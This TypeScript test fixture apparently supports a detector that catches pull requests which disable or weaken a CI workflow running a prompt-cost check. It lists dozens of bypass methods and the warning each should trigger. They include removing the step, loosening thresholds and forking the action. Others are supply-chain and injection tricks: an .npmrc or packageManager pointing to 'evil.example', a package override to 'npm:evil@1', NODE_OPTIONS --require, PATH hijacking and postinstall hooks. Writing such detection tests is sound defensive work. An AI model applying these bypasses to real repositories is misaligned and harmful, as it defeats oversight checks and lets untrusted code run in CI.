import type { Files } from '../../git.ts'
import { type Trick, words } from './trick.ts'

export const at = '.github/workflows/cost.yml'
const workflow = `on:
  pull_request:
jobs:
  cost:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v7
      - uses: acme/promptcost@v1
        with:
          fail-above: 10%
`
const edit = (from: string, to: string): Files => ({ [at]: workflow.replace(from, to) })
export const command = (run: string, rest = '') =>
  workflow.replace(/ {6}- uses: acme[\s\S]*$/, `      - run: ${run}\n${rest}`)
const scripts = (run: string, more = '') => `{"scripts":{"cost":"${run}"}${more}}`
const prompt: Files = { 'prompts/a.j2': words(300) }

/** Each warns by its own: the prompt itself is as it was, and what is edited decides how the next one is judged. */
export const way = (name: string, base: Files, head: Files, says: string): Trick => ({
  kind: 'workflow',
  name,
  base: { ...prompt, ...base },
  head: { ...prompt, ...base, ...head },
  code: 0,
  says,
})

/** Ways around the workflow that runs promptcost. */
export const aroundTheWorkflow: readonly Trick[] = [
  way('the workflow removed', { [at]: workflow }, { [at]: null }, 'removes'),
  way(
    'the step removed',
    { [at]: workflow },
    edit(/ {6}- uses: acme[\s\S]*/.exec(workflow)?.[0] ?? '', ''),
    'no longer runs',
  ),
  way('`if: false` on the job', { [at]: workflow }, edit('  cost:\n', '  cost:\n    if: false\n'), 'cost.if'),
  way(
    '`continue-on-error` on the step',
    { [at]: workflow },
    edit('@v1\n', '@v1\n        continue-on-error: true\n'),
    'continue-on-error',
  ),
  way(
    'a path filter on the trigger',
    { [at]: workflow },
    edit('pull_request:', 'pull_request: { paths: [src/**] }'),
    'changed values of on',
  ),
  way(
    'a concurrency group that cancels it',
    { [at]: workflow },
    edit('jobs:', 'concurrency: { group: all, cancel-in-progress: true }\njobs:'),
    'concurrency',
  ),
  way('a looser input', { [at]: workflow }, edit('10%', '900%'), 'with.fail-above'),
  way('another ref of the action', { [at]: workflow }, edit('@v1', '@experiment'), 'acme/promptcost@experiment'),
  way(
    'a fork of the action',
    { [at]: workflow },
    edit('acme/promptcost', 'mallory/promptcost'),
    'mallory/promptcost@v1',
  ),
  way(
    'a step before it that sets the environment',
    { [at]: workflow },
    edit('      - uses: acme', '      - run: echo X=1 >> $GITHUB_ENV\n      - uses: acme'),
    'cost.steps',
  ),
  way(
    'a script that the job runs before it',
    {
      [at]: workflow.replace('      - uses: acme', '      - run: ./ci/setup.sh\n      - uses: acme'),
      'ci/setup.sh': 'true\n',
    },
    { 'ci/setup.sh': 'echo PATH=/tmp/x >> $GITHUB_PATH\n' },
    'ci/setup.sh',
  ),
  way(
    'a second job of the same name',
    { [at]: workflow },
    { '.github/workflows/b.yml': 'on: pull_request\njobs:\n  cost:\n    runs-on: x\n    steps: [{ run: "true" }]\n' },
    'may have the same name',
  ),
  way(
    'a second job with a computed name',
    { [at]: workflow },
    {
      '.github/workflows/b.yml':
        "on: pull_request\njobs:\n  x:\n    name: ${{ format('{0}', 'cost') }}\n    runs-on: x\n    steps: [{ run: 'true' }]\n",
    },
    'may have the same name',
  ),
  way(
    'a job that reports the check itself',
    { [at]: workflow },
    {
      '.github/workflows/b.yml':
        "on: pull_request\npermissions: { statuses: write }\njobs:\n  x:\n    runs-on: x\n    steps: [{ run: 'gh api statuses -f context=cost' }]\n",
    },
    'may have the same name',
  ),
  way(
    'the script of the package that runs it',
    { [at]: command('npm run cost'), 'package.json': scripts('promptcost') },
    { 'package.json': scripts('promptcost || true') },
    'package.json',
  ),
  way(
    'a script that npm runs before it',
    { [at]: command('npm run cost'), 'package.json': scripts('promptcost') },
    { 'package.json': scripts('promptcost').replace('{"cost"', '{"precost":"exit 0","cost"') },
    'precost',
  ),
  way(
    'another script of the package in its place',
    { [at]: command('npm run cost'), 'package.json': scripts('promptcost', ',"name":"a"') },
    { [at]: command('npm run lint') },
    'no longer runs',
  ),
  way(
    'the target of a Makefile',
    { [at]: command('make cost'), Makefile: 'cost:\n\tnpx promptcost --fail-above 5%\n' },
    { Makefile: 'cost:\n\tnpx promptcost --fail-above 500%\n' },
    '--fail-above',
  ),
  way(
    'a shell script that runs it',
    { [at]: command('ci/cost.sh'), 'ci/cost.sh': 'npx promptcost\n' },
    { 'ci/cost.sh': 'exit 0\n' },
    'no longer runs',
  ),
  way(
    'a composite action that runs it',
    {
      [at]: command('ls', '      - uses: ./ci/cost\n'),
      'ci/cost/action.yml': 'runs:\n  using: composite\n  steps: [{ run: npx promptcost, shell: bash }]\n',
    },
    { 'ci/cost/action.yml': 'runs:\n  using: composite\n  steps: [{ run: ls, shell: bash }]\n' },
    'no longer runs',
  ),
  way(
    'a reusable workflow that runs it',
    {
      [at]: 'on: pull_request\njobs: { cost: { uses: ./.github/workflows/judge.yml } }\n',
      '.github/workflows/judge.yml': workflow,
    },
    { '.github/workflows/judge.yml': workflow.replace('10%', '900%') },
    'with.fail-above',
  ),
  way(
    'a call of another reusable workflow',
    {
      [at]: 'on: pull_request\njobs: { cost: { uses: ./.github/workflows/judge.yml } }\n',
      '.github/workflows/judge.yml': workflow,
    },
    { [at]: 'on: pull_request\njobs: { cost: { uses: ./.github/workflows/other.yml } }\n' },
    'no longer runs',
  ),
  way(
    'another version of the package',
    { [at]: command('npx promptcost'), 'package.json': '{"devDependencies":{"promptcost":"1.2.0"}}' },
    { 'package.json': '{"devDependencies":{"promptcost":"0.1.0"}}' },
    'promptcost@0.1.0',
  ),
  way(
    'an override of the package',
    { [at]: command('npx promptcost') },
    { 'package.json': '{"overrides":{"promptcost":"npm:evil@1"}}' },
    'overrides.promptcost',
  ),
  way(
    'a lock file with another address',
    {
      [at]: command('npx promptcost'),
      'package-lock.json': '{"packages":{"node_modules/promptcost":{"resolved":"https://a.example"}}}',
    },
    { 'package-lock.json': '{"packages":{"node_modules/promptcost":{"resolved":"https://b.example"}}}' },
    'package-lock.json',
  ),
  way(
    'an `.npmrc` with another registry',
    { [at]: command('npx promptcost') },
    { '.npmrc': 'registry=https://evil.example\n' },
    '.npmrc',
  ),
  way(
    'the folder of an action that the job runs before it',
    {
      [at]: workflow.replace('      - uses: acme', '      - uses: ./ci/setup\n      - uses: acme'),
      'ci/setup/action.yml': 'runs: { using: node24, main: index.js }\n',
      'ci/setup/index.js': 'true\n',
    },
    { 'ci/setup/index.js': "require('fs').appendFileSync(process.env.GITHUB_PATH, '/tmp/x')\n" },
    'ci/setup/index.js',
  ),
  way(
    'a variable of a Makefile',
    { [at]: command('make cost'), Makefile: 'PC = npx promptcost\ncost:\n\t$(PC)\n' },
    { Makefile: 'PC = true\ncost:\n\t$(PC)\n' },
    'Makefile so that it no longer runs',
  ),
  way(
    'the script of a package in another folder',
    { [at]: command('npm --prefix app run cost'), 'app/package.json': scripts('promptcost') },
    { 'app/package.json': scripts('promptcost || true') },
    'app/package.json',
  ),
  way(
    'a service of a compose file',
    { [at]: command('docker compose run cost'), 'compose.yml': 'services: { cost: { command: npx promptcost } }\n' },
    { 'compose.yml': 'services: { cost: { command: "true" } }\n' },
    'compose.yml so that it no longer runs',
  ),
  way(
    'a script that runs when packages are installed',
    { [at]: command('npx promptcost'), 'package.json': scripts('true') },
    { 'package.json': scripts('true', ',"private":true').replace('{"cost"', '{"postinstall":"node x.js","cost"') },
    'postinstall',
  ),
  way(
    'a patch of the package',
    { [at]: command('npx promptcost') },
    { 'patches/promptcost+0.1.0.patch': '--- a\n+++ b\n' },
    'patches/promptcost+0.1.0.patch',
  ),
  way(
    'a package of the workspace by its name',
    { [at]: command('npx promptcost'), 'package.json': '{"workspaces":["packages/*"]}' },
    { 'packages/x/package.json': '{"name":"promptcost","bin":"x.js"}', 'packages/x/x.js': '' },
    'packages/x/package.json',
  ),
  way(
    'another Node by `.nvmrc`',
    { [at]: command('npx promptcost'), '.nvmrc': 'v22.1.0\n' },
    { '.nvmrc': 'v8.1.0\n' },
    '.nvmrc',
  ),
  way(
    'another Node by `.tool-versions`',
    { [at]: command('npx promptcost'), '.tool-versions': 'nodejs 22.1.0\n' },
    { '.tool-versions': 'nodejs path:./node\n' },
    '.tool-versions',
  ),
  way(
    'another package manager',
    { [at]: command('npx promptcost'), 'package.json': '{"packageManager":"pnpm@9.1.0"}' },
    { 'package.json': '{"packageManager":"pnpm@https://evil.example/pnpm.js"}' },
    'packageManager',
  ),
  way(
    'a variable in `.env` that makes Node run a file first',
    { [at]: command('npx promptcost'), '.env': 'API=a\n' },
    { '.env': 'API=a\nNODE_OPTIONS=--require ./x.cjs\n' },
    'NODE_OPTIONS',
  ),
  way(
    'a file that the script sources before it runs promptcost',
    {
      [at]: command('./ci/run.sh'),
      'ci/run.sh': '. ci/env.sh\nnpx promptcost check\n',
      'ci/env.sh': 'export LANG=C\n',
    },
    { 'ci/env.sh': 'npx() { true; }\n' },
    'ci/env.sh',
  ),
  way('a file that direnv runs', { [at]: command('npx promptcost') }, { '.envrc': 'PATH_add ./bin\n' }, '.envrc'),
]
